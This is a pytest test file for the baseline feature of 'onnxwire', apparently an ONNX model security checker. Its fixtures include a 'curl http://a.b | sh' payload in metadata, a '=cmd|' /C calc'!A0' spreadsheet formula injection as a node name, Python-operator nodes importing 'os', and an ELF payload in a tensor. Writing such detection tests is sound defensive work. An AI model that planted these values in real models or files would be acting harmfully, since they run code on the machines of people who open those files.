"""Tests of `check(baseline=...)` and `onnxwire check --baseline`, which omit the problems of a trusted model."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from check_case import FLOAT, model, value

import onnxwire
from onnxwire.cli import main

ROOT = Path(__file__).parents[2]
DIGITS = ROOT / "examples" / "digits_cnn.onnx"
OPSETS = "opset_import { version: 17 } opset_import { domain: 'my.ops' version: 1 }"
GRAPH = f"""
    input {{ {value("x")} }} output {{ {value("y")} }}
    node {{ op_type: "Relu" name: "first" input: "x" output: "a" }}
    node {{ op_type: "PyOp" domain: "my.ops" name: "run" input: "a" output: "b"
            attribute {{ name: "module" type: STRING s: "harmless" }} }}
    node {{ op_type: "Sigmoid" name: "last" input: "b" output: "y" }}
"""


def parse_model(graph=GRAPH, opset=OPSETS, fields=""):
    """Return a model. graph, opset, fields: its parts in text format; see `model`."""
    return onnxwire.from_text(model(graph, opset=opset, fields=fields))


def rules_of_new_problems(baseline, candidate, **options):
    """Return the rules of the problems that only the candidate has, as a sorted list."""
    problems = onnxwire.check(candidate, untrusted=True, baseline=baseline, **options)
    return sorted(problem.rule for problem in problems)


def edit(original, edit_copy):
    """Return a copy of a model, edited by the function `edit_copy`."""
    copied_model = onnxwire.ModelProto.FromString(original.SerializeToString())
    edit_copy(copied_model)
    return copied_model


def rename_all(original):
    """Return a copy in which every node of the main graph, and every value that these nodes use, has another name."""
    copied_model = onnxwire.ModelProto.FromString(original.SerializeToString())
    values = {name for node in copied_model.graph.node for name in [*node.input, *node.output] if name}
    onnxwire.rename_values(copied_model, {name: f"v{i}" for i, name in enumerate(sorted(values))})
    for index, node in enumerate(copied_model.graph.node):
        node.name = f"node{index}"
    return copied_model


@pytest.mark.parametrize("make", [parse_model, lambda: onnxwire.load(DIGITS)], ids=["custom", "digits"])
def test_known_problems_of_a_copy_are_not_reported(make):
    trusted_model = make()
    known_problems = onnxwire.check(trusted_model, untrusted=True)
    assert known_problems
    for candidate in (trusted_model, edit(trusted_model, lambda candidate: None), rename_all(trusted_model)):
        problems = onnxwire.check(candidate, untrusted=True, baseline=trusted_model)
        assert problems == []
        assert problems.in_baseline == len(onnxwire.check(candidate, untrusted=True))


def test_a_check_without_a_baseline_has_no_count_of_baseline_problems():
    assert onnxwire.check(parse_model()).in_baseline is None


def test_an_added_attack_is_reported_and_the_known_one_is_not():
    def add_attack(model):
        """Add a call of a Python operator."""
        model.graph.node[2].input[0] = "c"
        node = model.graph.node.add(op_type="PyOp", domain="my.ops", name="evil", input=["b"], output=["c"])
        node.attribute.add(name="module", type=onnxwire.AttributeProto.STRING, s=b"os")

    model = rename_all(edit(parse_model(), add_attack))
    problems = [
        (problem.rule, problem.path)
        for problem in onnxwire.check(model, untrusted=True, baseline=parse_model(), select="security-code-operator")
    ]
    assert problems == [("security-code-operator", "graph.node[3]")]


@pytest.mark.parametrize(
    "edit_copy",
    [
        lambda model: model.graph.node[1].attribute[0].__setattr__("s", b"os"),
        lambda model: model.graph.node[1].__setattr__("domain", "my.operators"),
        lambda model: model.graph.node[1].input.__setitem__(0, "x"),
        lambda model: model.graph.node[0].__setattr__("op_type", "Elu"),
    ],
    ids=["attribute", "domain", "input", "operator of the previous node"],
)
def test_a_problem_is_reported_if_its_node_or_the_previous_node_changes(edit_copy):
    assert "security-code-operator" in rules_of_new_problems(parse_model(), edit(parse_model(), edit_copy))


def test_a_problem_far_downstream_of_a_change_is_not_reported():
    nodes = "".join(f'node {{ op_type: "Relu" input: "c{i}" output: "c{i + 1}" }}' for i in range(5))
    graph = GRAPH.replace('input: "x" output: "a"', 'input: "x" output: "c0"').replace('input: "a"', 'input: "c5"')
    trusted_model = parse_model(graph + nodes)
    candidate = edit(trusted_model, lambda candidate: candidate.graph.node[0].__setattr__("op_type", "Elu"))
    assert "security-code-operator" not in rules_of_new_problems(trusted_model, candidate)


def test_a_second_copy_of_a_known_attack_is_reported():
    def copy_attack(model):
        """Append a copy of the node of the known attack."""
        model.graph.node.append(model.graph.node[1])
        model.graph.node[3].output[0] = "unused"

    assert rules_of_new_problems(parse_model(), edit(parse_model(), copy_attack)).count("security-code-operator") == 1


def test_texts_and_names_with_known_problems_are_compared_exactly():
    fields = "metadata_props { key: 'loader' value: 'import os; os.system(\"make\")' }"
    trusted_model = parse_model(fields=fields)
    assert rules_of_new_problems(trusted_model, rename_all(trusted_model)) == []
    changed_model = edit(
        trusted_model, lambda model: model.metadata_props[0].__setattr__("value", 'os.system("curl http://a.b | sh")')
    )
    assert "security-payload-text" in rules_of_new_problems(trusted_model, changed_model)

    named_model = edit(parse_model(), lambda model: model.graph.node[0].__setattr__("name", "=1+1"))
    changed_name = edit(parse_model(), lambda model: model.graph.node[0].__setattr__("name", "=cmd|' /C calc'!A0"))
    assert rules_of_new_problems(named_model, named_model) == []
    assert "security-name-injection" in rules_of_new_problems(named_model, changed_name)


def test_unknown_fields_are_compared_by_their_bytes():
    trusted_bytes = parse_model().SerializeToString() + bytes.fromhex("fa3e04") + b"abcd"  # field 1007, 4 bytes
    changed_bytes = trusted_bytes[:-4] + b"efgh"
    assert (
        rules_of_new_problems(
            onnxwire.ModelProto.FromString(trusted_bytes), onnxwire.ModelProto.FromString(trusted_bytes)
        )
        == []
    )
    assert "security-wire-unknown-content" in rules_of_new_problems(
        onnxwire.ModelProto.FromString(trusted_bytes), onnxwire.ModelProto.FromString(changed_bytes)
    )


def test_the_last_byte_of_a_payload_of_300_kb_is_compared():
    program = b"\x7fELF\2\1\1" + bytes(300_001)
    graph = GRAPH + "initializer { name: 'w' data_type: 2 dims: 300008 }"

    def with_payload(raw_data):
        """Return the model with this payload in its tensor."""
        return edit(parse_model(graph), lambda model: model.graph.initializer[0].__setattr__("raw_data", raw_data))

    trusted_model = with_payload(program)
    assert rules_of_new_problems(trusted_model, rename_all(trusted_model)) == []
    assert "security-payload-tensor" in rules_of_new_problems(trusted_model, with_payload(program[:-1] + b"x"))


def test_nested_graphs_and_functions_are_compared():
    branch = f"""graph {{ name: "g" input {{ {value("x")} }} output {{ {value("y")} }}
        node {{ op_type: "PyOp" domain: "my.ops" input: "x" output: "y" }} }}"""
    branch_fields = branch.removeprefix("graph").replace(f"input {{ {value('x')} }}", "")
    graph = f"""
        input {{ {value("x")} }} input {{ name: "c" {FLOAT.replace("elem_type: 1", "elem_type: 9")} }}
        output {{ {value("z")} }}
        node {{ op_type: "If" input: "c" output: "z"
                attribute {{ name: "then_branch" type: GRAPH g {branch_fields} }}
                attribute {{ name: "else_branch" type: GRAPH g {branch_fields} }} }}
    """
    function = """functions { name: "f" domain: "my.ops" input: "x" output: "y" opset_import { version: 17 }
        opset_import { domain: "my.ops" version: 1 }
        node { op_type: "PyOp" domain: "my.ops" input: "x" output: "y" } }"""
    trusted_model = parse_model(graph, fields=function)
    assert onnxwire.check(trusted_model, untrusted=True, select="security-code-operator").counts()["error"] == 3
    assert rules_of_new_problems(trusted_model, trusted_model) == []
    attack = edit(
        trusted_model,
        lambda model: (
            model.graph.node[0]
            .attribute[1]
            .g.node[0]
            .attribute.add(name="m", type=onnxwire.AttributeProto.STRING, s=b"os")
        ),
    )
    assert rules_of_new_problems(trusted_model, attack, select="security-code-operator") == ["security-code-operator"]


def test_a_limit_applies_to_new_problems():
    def add_attacks(candidate):
        """Add five calls of a Python operator."""
        for i in range(5):
            candidate.graph.node.add(op_type="PyOp", domain="my.ops", input=["a"], output=[f"u{i}"])

    candidate = edit(parse_model(), add_attacks)
    problems = onnxwire.check(
        candidate, untrusted=True, baseline=parse_model(), select="security-code-operator", limit=2
    )
    assert len(problems) == 2 and problems.omitted == {"security-code-operator": 3} and problems.in_baseline == 1


def test_a_check_without_untrusted_accepts_a_baseline():
    trusted_model = parse_model(GRAPH + 'node { op_type: "Relu" input: "x" output: "a" }')
    assert onnxwire.check(trusted_model, select="error")
    assert onnxwire.check(rename_all(trusted_model), select="error", baseline=trusted_model) == []


@pytest.mark.parametrize("damaged_model", ["baseline", "candidate"])
def test_damage_of_either_model_is_an_error(damaged_model, tmp_path):
    path = tmp_path / "damaged.onnx"
    path.write_bytes(DIGITS.read_bytes()[:-5])
    baseline, candidate = (path, DIGITS) if damaged_model == "baseline" else (DIGITS, path)
    with pytest.raises(onnxwire.DecodeError, match=r"damaged\.onnx"):
        onnxwire.check(candidate, untrusted=True, baseline=baseline)


def test_names_that_are_not_utf8_are_compared():
    candidate = onnxwire.ModelProto.FromString(parse_model().SerializeToString().replace(b"first", b"fi\xffst"))
    assert rules_of_new_problems(candidate, candidate) == []
    assert rules_of_new_problems(parse_model(), candidate) == ["model-strings-utf8", "name-c90-identifier"]


def test_a_baseline_or_candidate_that_is_not_a_model_is_refused():
    with pytest.raises(TypeError, match="ModelProto"):
        onnxwire.check(parse_model(), baseline=onnxwire.GraphProto())
    with pytest.raises(TypeError, match="ModelProto"):
        onnxwire.check(onnxwire.GraphProto(), baseline=parse_model())


def test_an_absent_baseline_is_an_error(tmp_path):
    with pytest.raises(onnxwire.SourceError, match=r"absent\.onnx"):
        onnxwire.check(DIGITS, baseline=tmp_path / "absent.onnx")


@pytest.fixture
def model_paths(tmp_path):
    """Return the paths of a trusted model and of a copy with an added attack."""
    onnxwire.save(parse_model(), tmp_path / "old.onnx")
    attack_fields = {"op_type": "PyOp", "domain": "my.ops", "input": ["b"], "output": ["u"]}
    onnxwire.save(edit(parse_model(), lambda model: model.graph.node.add(**attack_fields)), tmp_path / "new.onnx")
    return str(tmp_path / "old.onnx"), str(tmp_path / "new.onnx")


def test_the_command_reports_new_problems_only(model_paths, capsys):
    old_path, new_path = model_paths
    options = ["--untrusted", "--select", "security-code-operator", "--baseline", old_path]
    assert main(["check", old_path, *options]) == 0
    assert capsys.readouterr().out == ""
    assert main(["check", new_path, *options, "--json"]) == 1
    (file,) = json.loads(capsys.readouterr().out)
    assert [problem["path"] for problem in file["problems"]] == ["graph.node[3]"] and file["in_baseline"] == 1
    assert main(["check", new_path, *options, "--sarif"]) == 1
    (result,) = json.loads(capsys.readouterr().out)["runs"][0]["results"]
    assert result["baselineState"] == "new"


def test_the_command_refuses_an_absent_baseline_stdin_and_other_types(model_paths, capsys, tmp_path):
    old_path, _ = model_paths
    assert main(["check", old_path, "--baseline", str(tmp_path / "absent.onnx")]) == 2
    assert "absent.onnx" in capsys.readouterr().err
    for options in (["--baseline", "-"], ["--baseline", old_path, "--type", "GraphProto"]):
        with pytest.raises(SystemExit):
            main(["check", old_path, *options])


def test_a_check_without_a_baseline_does_not_import_the_comparison_of_graphs():
    code = "import sys, onnxwire; onnxwire.check(sys.argv[1]); print('onnxwire.analysis.flat_graph' in sys.modules)"
    process = subprocess.run([sys.executable, "-c", code, DIGITS], capture_output=True, text=True, check=True)
    assert process.stdout == "False\n"
